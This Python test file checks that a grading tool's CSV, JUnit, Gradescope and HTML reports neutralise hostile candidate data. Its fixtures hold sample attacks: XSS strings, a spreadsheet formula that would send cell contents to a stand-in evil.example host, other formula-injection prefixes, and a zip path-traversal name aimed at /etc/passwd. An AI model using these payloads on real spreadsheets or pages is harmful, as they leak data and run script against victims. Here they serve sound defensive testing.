"""The reports a reviewer reads (issue 13, point 3): summary.csv, junit.xml, gradescope/*.json and
report.html, written by grader.assessment.reports from a batch's candidates' JSON.

Candidates are built from real `grade exercise --format json` reports (tests/data/reports/, see
its README) and varied in Python: hostile names and output, internal errors, missing items,
an unsandboxed run. The HTML page is loaded in a real headless browser (Debian's chromium)
where one is installed; those tests skip, saying so, where it is absent.
"""

import copy
import csv
import io
import json
import shutil
import subprocess
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from grader.assessment import reports
from grader.assessment.reports import common, gradescope, html, junit, summary_csv

DATA = Path(__file__).resolve().parent / "data"
LR, THEORY = "linear_regression_torch", "theory_speed"
ITEMS = [LR, THEORY]
BWRAP = {"kind": "bwrap", "protections": ["a file system view with the graded file only"]}
NONE = {"kind": "none", "reason": "--sandbox none was given on the command line"}
HOSTILE = "<script>alert(1)</script>"
HOSTILE_OUTPUT = "loss 0.1\n<img src=x onerror=alert(1)>\n\x1b[31mred\x00\n"
HOSTILE_MESSAGE = "expected 1.0</td><img src=x onerror=alert(2)> got \"2\" & 'x'"


def fixture_report(name):
    return json.loads((DATA / "reports" / f"{name}.json").read_text())


def passed_everywhere(report):
    report = copy.deepcopy(report)
    for check in report["checks"]:
        check.update(status="passed", message="", score=check["points"])
    report.update(status="passed", score=report["max_score"])
    return report


def candidate(name, items, sandbox=BWRAP, errors=()):
    return {"candidate": name,
            "items": {item: dict(rep, submission_sha256=f"{abs(hash((name, item))):064x}"[:64])
                      for item, rep in items.items()},
            "errors": list(errors), "seed": 1234, "device": "cpu",
            "bank": {"version": "0.1.0", "digest": "0123456789abcdef" * 4},
            "grader_version": "0.1.0", "sandbox": sandbox}


@pytest.fixture(scope="module")
def batch():
    solution, stub = fixture_report(f"{LR}.solution"), fixture_report(f"{LR}.stub")
    theory_blank = fixture_report(f"{THEORY}.stub")
    theory_right = passed_everywhere(theory_blank)

    partial = copy.deepcopy(solution)  # 7/9: one wrong result, one timeout
    partial["checks"][2].update(status="failed", score=0,
                                message="prediction differs from the reference: max abs error 0.5")
    partial["checks"][7].update(status="timeout", score=0, time_s=5.02,
                                message="`fit` took longer than its 5 s limit")
    partial.update(status="failed", score=7)

    internal = copy.deepcopy(solution)
    internal["checks"][0].update(status="internal_error", score=0,
                                 message="the reference worker died (grader fault)")
    internal.update(status="error", score=8)

    hostile = copy.deepcopy(solution)
    hostile["output"] = {"head": HOSTILE_OUTPUT, "bytes": len(HOSTILE_OUTPUT)}
    hostile["checks"][1].update(status="failed", score=0, message=HOSTILE_MESSAGE)
    hostile.update(status="failed", score=8, sandbox=NONE)

    candidates = [
        candidate("alice", {LR: solution, THEORY: theory_right}),           # 16/16 passed
        candidate("bob", {LR: stub, THEORY: theory_right}),                 # 7/16 failed
        candidate("carol", {LR: partial}),                                  # 7/16 incomplete
        candidate("dave", {LR: internal, THEORY: theory_blank}),            # 8/16 error
        candidate(HOSTILE, {LR: hostile, THEORY: theory_right}, sandbox=NONE),  # 15/16
        candidate('=HYPERLINK("http://evil.example/?"&A1,"click")', {LR: stub, THEORY: theory_blank}),
        candidate("erin", {}, errors=["erin.zip: a member would unpack outside the folder "
                                      "(../../etc/passwd)"]),
    ]
    meta = {"seed": 1234, "device": "cpu", "items": ITEMS, "sandbox": BWRAP,
            "started": "2025-01-01T10:00:00Z"}
    similarity = [{"item": LR, "a": "bob", "b": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                   "score": 0.93, "kind": "pair",
                   "regions": [{"a": [3, 20], "b": [5, 22]}, {"a": [30, 30], "b": [41, 41],
                                                               "question": "<b>q1</b>"}]}]
    return candidates, meta, similarity


def csv_rows(candidates, meta, similarity):
    return list(csv.DictReader(io.StringIO(summary_csv.render(candidates, meta, similarity))))


# summary.csv ---------------------------------------------------------------------------------

def test_summary_csv_has_one_row_per_candidate_ranked_with_item_scores_total_status_and_flags(batch):
    rows = csv_rows(*batch)
    assert list(rows[0]) == ["candidate", LR, THEORY, "total", "total_max", "status", "flags"]
    by_name = {row["candidate"]: row for row in rows}
    assert len(rows) == 7
    assert [row["candidate"] for row in rows[:2]] == ["alice", HOSTILE]   # '<' needs no quote
    assert by_name["alice"] == {"candidate": "alice", LR: "9/9", THEORY: "7/7", "total": "16",
                                "total_max": "16", "status": "passed", "flags": ""}
    assert by_name["bob"][LR] == "0/9" and by_name["bob"]["status"] == "failed"
    assert by_name["bob"]["flags"].split() == ["similar:=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"]
    assert by_name["carol"][THEORY] == "missing" and by_name["carol"]["status"] == "incomplete"
    assert by_name["carol"]["total_max"] == "16"
    assert set(by_name["carol"]["flags"].split()) == {"timeout", "missing:theory_speed"}
    assert by_name["dave"]["status"] == "error" and "internal_error" in by_name["dave"]["flags"]
    assert by_name[HOSTILE]["flags"].split() == ["unsandboxed"]
    assert by_name["erin"]["status"] == "error"
    assert "submission_error" in by_name["erin"]["flags"].split()
    totals = [int(row["total"]) for row in rows]
    assert totals == sorted(totals, reverse=True)


def test_summary_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(batch):
    candidates, meta, _ = batch
    odd = [candidate(name, {}) for name in ("+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd")]
    rows = csv_rows(candidates + odd, meta, batch[2])
    names = {row["candidate"] for row in rows}
    for name in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
                 "\tcmd", "\rcmd"):
        assert "'" + name in names and name not in names
    bob = next(row for row in rows if row["candidate"] == "bob")
    assert bob["flags"].startswith("similar:=")   # not at the cell's start: harmless
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_candidate_status_is_passed_only_when_every_item_of_the_batch_passed():
    solution = fixture_report(f"{LR}.solution")
    items, maxima = [LR], {LR: 9}
    assert common.view(candidate("a", {LR: solution}), items, maxima)["status"] == "passed"
    assert common.view(candidate("a", {LR: solution}), [LR, THEORY], maxima)["status"] == "incomplete"
    assert common.view(candidate("a", {}), items, maxima)["status"] == "incomplete"
    assert common.view(candidate("a", {LR: solution}, errors=["x"]), items, maxima)["status"] == "error"
    stub = fixture_report(f"{LR}.stub")
    assert common.view(candidate("a", {LR: stub}), items, maxima)["status"] == "failed"


# junit.xml -----------------------------------------------------------------------------------

def test_junit_xml_validates_against_the_vendored_jenkins_junit_schema(batch, tmp_path):
    etree = pytest.importorskip("lxml.etree", reason="lxml is a test extra: pip install -e .[test]")
    schema = etree.XMLSchema(etree.parse(str(DATA / "junit" / "jenkins-junit-10.xsd")))
    path = junit.write(tmp_path / "junit.xml", *batch)
    document = etree.parse(str(path))
    assert schema.validate(document), schema.error_log
    # and the schema is strict enough to notice a broken file
    document.getroot()[0].attrib.pop("tests")
    assert not schema.validate(document)


def test_junit_xml_loads_in_junitparser_one_suite_per_candidate_and_item_failures_with_verdict_and_message(
        batch, tmp_path):
    junitparser = pytest.importorskip("junitparser", reason="a test extra: pip install -e .[test]")
    path = junit.write(tmp_path / "junit.xml", *batch)
    suites = {suite.name: suite for suite in junitparser.JUnitXml.fromfile(str(path))}
    assert {"alice.linear_regression_torch", "alice.theory_speed", f"{HOSTILE}.theory_speed",
            "carol.theory_speed", "erin.submission"} <= set(suites)
    carol = list(suites["carol.linear_regression_torch"])
    assert len(carol) == 9 and all(case.classname == "carol.linear_regression_torch" for case in carol)
    failures = {case.name: case.result[0] for case in carol if case.result}
    assert {r.type for r in failures.values()} == {"failed", "timeout"}
    assert any(r.message == "`fit` took longer than its 5 s limit" for r in failures.values())
    assert all(isinstance(r, junitparser.Failure) for r in failures.values())
    assert isinstance(list(suites["carol.theory_speed"])[0].result[0], junitparser.Skipped)
    timed = next(case for case in carol if case.name == fixture_report(f"{LR}.solution")["checks"][7]["name"])
    assert timed.time == pytest.approx(5.02)
    stub_cases = list(suites["bob.linear_regression_torch"])
    assert all(case.result[0].type == "not_implemented" for case in stub_cases)


def test_junit_reports_the_graders_internal_errors_as_errors_and_candidates_faults_as_failures(batch):
    root = junit.build(*batch)
    dave = next(s for s in root if s.get("name") == "dave.linear_regression_torch")
    assert (dave.get("errors"), dave.get("failures")) == ("1", "0")
    error = dave.find("testcase/error")
    assert error.get("type") == "internal_error" and "grader fault" in error.get("message")
    bob = next(s for s in root if s.get("name") == "bob.linear_regression_torch")
    assert (bob.get("errors"), bob.get("failures"), bob.get("tests")) == ("0", "9", "9")


def test_junit_keeps_hostile_names_output_and_control_characters_as_text(batch, tmp_path):
    text = junit.write(tmp_path / "junit.xml", *batch).read_text(encoding="utf-8")
    assert "<script>" not in text and "<img" not in text and "\x1b" not in text
    root = ET.fromstring(text.encode())
    suite = next(s for s in root if s.get("name") == f"{HOSTILE}.{LR}")
    assert suite.find("system-out").text == HOSTILE_OUTPUT.replace("\x1b", "\\x1b").replace("\x00", "\\x00")
    messages = [f.get("message") for f in suite.iter("failure")]
    assert messages == [HOSTILE_MESSAGE]


# gradescope/<candidate>.json -----------------------------------------------------------------

def test_gradescope_results_have_the_autograder_fields_and_agree_with_the_csv(batch, tmp_path):
    candidates, meta, similarity = batch
    paths = gradescope.write(tmp_path / "gradescope", candidates, meta, similarity)
    assert len(paths) == len(candidates) and len({p.name for p in paths}) == len(paths)
    assert all(p.parent == tmp_path / "gradescope" for p in paths)   # odd names stay inside
    rows = {row["candidate"].lstrip("'"): row for row in csv_rows(*batch)}
    for cand, path in zip(candidates, paths):
        results = json.loads(path.read_text())
        row = rows[cand["candidate"]]
        assert (results["score"], results["max_score"]) == (int(row["total"]), int(row["total_max"]))
        assert sum(t["score"] for t in results["tests"]) == results["score"]
        assert sum(t["max_score"] for t in results["tests"]) == results["max_score"] or cand["errors"]
        assert "seed: 1234" in results["output"]
        for test in results["tests"]:
            assert set(test) == {"name", "number", "score", "max_score", "status", "output",
                                 "visibility"}
            assert test["status"] in ("passed", "failed") and test["visibility"] == "visible"
    carol = json.loads(paths[2].read_text())
    lr_tests = [t for t in carol["tests"] if t["name"].startswith(LR)]
    assert [t["number"] for t in lr_tests[:4]] == ["1.1.1", "1.1.2", "1.1.3", "1.2.1"]
    timeout = next(t for t in lr_tests if "timeout" in t["output"])
    assert "took longer than its 5 s limit" in timeout["output"] and timeout["status"] == "failed"
    hostile = json.loads(paths[4].read_text())
    assert "UNSANDBOXED" in hostile["output"] and "sandbox: bwrap" in json.loads(paths[0].read_text())["output"]


def test_gradescope_numbers_are_task_dot_index_when_the_batch_has_one_item():
    solution = fixture_report(f"{LR}.solution")
    results = gradescope.results(candidate("a", {LR: solution}), [LR], {LR: 9})
    assert [t["number"] for t in results["tests"]] == ["1.1", "1.2", "1.3", "2.1", "2.2", "3.1",
                                                       "3.2", "4.1", "4.2"]
    assert (results["score"], results["max_score"]) == (9, 9)


# report.html (as text) -----------------------------------------------------------------------

class Tags(HTMLParser):
    """The elements and attributes of a page, as a browser's tokenizer sees them."""

    def __init__(self):
        super().__init__()
        self.names, self.attributes, self.hrefs = set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.hrefs += [value for name, value in attrs if name == "href"]


def test_html_page_fetches_nothing_and_escapes_everything_the_candidate_controls(batch):
    page = html.render(*batch)
    assert "<script>alert" not in page and "<img" not in page
    assert html.esc(HOSTILE) in page and html.esc("<img src=x onerror=alert(1)>") in page
    lowered = page.lower().replace("http://evil.example", "")   # a candidate's name, as text
    for fetch in ("http://", "https://", "<link", "@import", "url("):
        assert fetch not in lowered, fetch
    tags = Tags()
    tags.feed(page)
    assert not {"img", "link", "iframe", "object", "embed", "video", "audio"} & tags.names
    assert not {"src", "srcset", "data", "action", "formaction", "poster"} & tags.attributes
    assert all(href.startswith("#") for href in tags.hrefs)           # in-page links only
    assert "default-src 'none'" in page
    assert page.count("<script>") == 1


def test_html_page_says_when_similarity_was_not_computed(batch):
    candidates, meta, similarity = batch
    assert "Similarity not computed" in html.render(candidates, meta, None)
    page = html.render(candidates, meta, similarity)
    assert "Similarity not computed" not in page and "93%" in page
    assert "bob lines 3–20 ↔ =HYPERLINK(" in page and html.esc("<b>q1</b>") in page


def test_unsandboxed_runs_are_said_in_plain_words_and_sandboxed_batches_carry_no_banner(batch):
    candidates, meta, similarity = batch
    page = html.render(candidates, meta, similarity)
    assert "ran without the sandbox" in page and 'id="unsandboxed"' in page
    sandboxed = [c for c in candidates if not common.is_unsandboxed(c)]
    assert 'id="unsandboxed"' not in html.render(sandboxed, meta, similarity)


# write_all on a RESULTS folder ---------------------------------------------------------------

def test_write_all_writes_every_report_from_the_results_folder(batch, tmp_path):
    candidates, meta, _ = batch
    (tmp_path / "candidates").mkdir()
    (tmp_path / "batch.json").write_text(json.dumps(meta))
    for cand in candidates:
        (tmp_path / "candidates" / f"{common.safe_filename(cand['candidate'])}.json").write_text(
            json.dumps(cand))
    (tmp_path / "candidates" / "frank.json").write_text('{"candidate": "frank", "items": {')
    written = reports.write_all(tmp_path)
    names = sorted(str(p.relative_to(tmp_path)) for p in written)
    assert {"summary.csv", "junit.xml", "report.html"} <= set(names)
    assert len([n for n in names if n.startswith("gradescope/")]) == len(candidates) + 1
    rows = list(csv.DictReader((tmp_path / "summary.csv").open(newline="")))
    frank = next(row for row in rows if row["candidate"] == "frank")
    assert frank["status"] == "error" and "submission_error" in frank["flags"]
    page = (tmp_path / "report.html").read_text()
    assert "could not be read" in page
    if not (tmp_path / "similarity.csv").exists():
        assert "Similarity not computed" in page
    assert not list(tmp_path.rglob(".*.*"))   # no temporary file left behind


# report.html in a real browser ---------------------------------------------------------------

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(
    CHROMIUM is None, reason="no chromium on this machine (CI installs it: apt-get install -y chromium)")


def chromium(tmp_path, *args):
    result = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
         "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}", *args],
        capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr[-3000:]
    return result.stdout


@pytest.fixture(scope="module")
def rendered(batch, tmp_path_factory):
    """The page as chromium rendered it: (lxml root of the dumped DOM, same with #cand-2, the
    screenshot's path)."""
    if CHROMIUM is None:
        pytest.skip("no chromium on this machine (CI installs it: apt-get install -y chromium)")
    lxml_html = pytest.importorskip("lxml.html", reason="lxml is a test extra: pip install -e .[test]")
    tmp = tmp_path_factory.mktemp("html")
    page = html.write(tmp / "report.html", *batch)
    dom = chromium(tmp, "--dump-dom", page.as_uri())
    opened = chromium(tmp, "--dump-dom", page.as_uri() + "#cand-2")
    shot = tmp / "report.png"
    chromium(tmp, f"--screenshot={shot}", "--window-size=1400,1000", "--hide-scrollbars",
             page.as_uri())
    print(f"screenshot: {shot}")
    return lxml_html.fromstring(dom), lxml_html.fromstring(opened), shot


@needs_chromium
def test_rendered_page_ranks_candidates_by_total_score(rendered):
    dom = rendered[0]
    names = [a.text_content() for a in dom.xpath("//section[@id='ranking']//td[@class='name']/a")]
    assert names[:3] == ["alice", HOSTILE, "dave"]
    assert names[-1] == "erin" and len(names) == 7
    scores = [s.text_content() for s in dom.xpath("//section[@id='ranking']//span[@class='score']")]
    assert scores[:3] == ["16/16", "15/16", "8/16"]
    assert rendered[2].stat().st_size > 10_000


@needs_chromium
def test_rendered_grid_colours_each_check_by_its_verdict(rendered):
    dom = rendered[0]
    rows = dom.xpath("//section[@id='grid']//tbody/tr")
    carol = next(r for r in rows if r.xpath("string(th)") == "carol")
    cells = carol.xpath("td[contains(@class,'cell')]")
    classes = [c.get("class").split()[1] for c in cells]
    assert classes[:9] == ["v-passed", "v-passed", "v-failed", "v-passed", "v-passed",
                           "v-passed", "v-passed", "v-timeout", "v-passed"]
    assert set(classes[9:]) == {"v-missing"}   # theory not handed in
    dave = next(r for r in rows if r.xpath("string(th)") == "dave")
    assert dave.xpath("td[contains(@class,'cell')]")[0].get("class") == "cell v-internal_error"


@needs_chromium
def test_rendered_candidate_detail_shows_the_checks_messages_and_time_against_limit(rendered):
    dom = rendered[0]
    detail = next(d for d in dom.xpath("//details[@class='candidate']")
                  if d.xpath("string(summary/span[@class='cname'])") == "carol")
    text = detail.text_content()
    assert "`fit` took longer than its 5 s limit" in text
    assert "prediction differs from the reference: max abs error 0.5" in text
    assert "5.02 s of 5 s" in text
    assert detail.get("open") is None                 # collapsed until asked for
    opened = rendered[1].xpath("//details[@id='cand-2']")[0]
    assert opened.get("open") is not None, "the page's script opens the detail the address names"


@needs_chromium
def test_rendered_page_shows_hostile_names_and_output_as_text_not_elements(rendered):
    dom = rendered[0]
    assert dom.xpath("//img") == []
    assert len(dom.xpath("//script")) == 1 and "alert" not in dom.xpath("string(//script)")
    assert HOSTILE in dom.xpath("string(//section[@id='ranking'])")
    outputs = [p.text_content() for p in dom.xpath("//pre[@class='output']")]
    assert any("<img src=x onerror=alert(1)>" in out for out in outputs)
    assert HOSTILE_MESSAGE in dom.xpath("string(//details[@id='cand-1'])")
    banner = dom.xpath("//div[@id='unsandboxed']")[0].text_content()
    assert "ran without the sandbox" in banner and HOSTILE in banner


def test_batch_records_that_state_the_sandbox_in_words_are_read_as_sandboxed_or_not():
    """grade batch writes "sandbox": "sandboxed" / "unsandboxed" with a sandbox_warning."""
    solution = fixture_report(f"{LR}.solution")
    solution.pop("sandbox")
    plain = candidate("a", {LR: solution}, sandbox="sandboxed")
    loose = dict(candidate("b", {LR: solution}, sandbox="unsandboxed"),
                 sandbox_warning="the candidates' code ran UNSANDBOXED (--sandbox none)")
    assert not common.is_unsandboxed(plain)
    assert common.sandbox_reason(loose) == "the candidates' code ran UNSANDBOXED (--sandbox none)"
    rows = csv_rows([plain, loose], {"seed": 7, "runs": [{"started": "then"}]}, None)
    assert [row["flags"] for row in rows] == ["", "unsandboxed"]
    page = html.render([plain, loose], {"seed": 7, "runs": [{"started": "then"}]}, None)
    assert "ran UNSANDBOXED (--sandbox none)" in page and "started then" in page


def test_write_all_shows_the_similarity_pairs_the_similarity_module_loads(batch, tmp_path,
                                                                           monkeypatch):
    similarity = pytest.importorskip("grader.assessment.similarity")
    candidates, meta, pairs = batch
    (tmp_path / "candidates").mkdir()
    (tmp_path / "candidates" / "bob.json").write_text(json.dumps(candidates[1]))
    (tmp_path / "similarity.json").write_text("{}")
    monkeypatch.setattr(similarity, "load", lambda results_dir: pairs)
    reports.write_all(tmp_path)
    assert "similar:" in (tmp_path / "summary.csv").read_text()
    assert "Similarity not computed" not in (tmp_path / "report.html").read_text()


def test_a_passed_checks_note_is_shown_under_it_and_a_silent_pass_shows_nothing():
    from grader.report import CheckResult, Report

    report = Report(exercise="qlearning_torch", file="qlearning_torch.py", seed=1,
                    limits="10 x", framework="torch")
    report.checks = [
        CheckResult(name="train_learns", task=5, status="passed",
                    message="Optimal from the start state in 5 of 5 trainings; 5 of 6 needed.",
                    time_s=1.0, limit_s=20.0, points=2),
        CheckResult(name="loss_matches", task=4, status="passed", message="", time_s=0.1,
                    limit_s=5.0, points=1),
    ]
    lines = report.to_text(lambda text, **_: text).splitlines()
    at = next(index for index, line in enumerate(lines) if "train learns" in line)
    assert "in 5 of 5 trainings" in lines[at + 1], lines
    after = next(index for index, line in enumerate(lines) if "loss matches" in line)
    assert after + 1 == len(lines) or not lines[after + 1].startswith("      "), lines
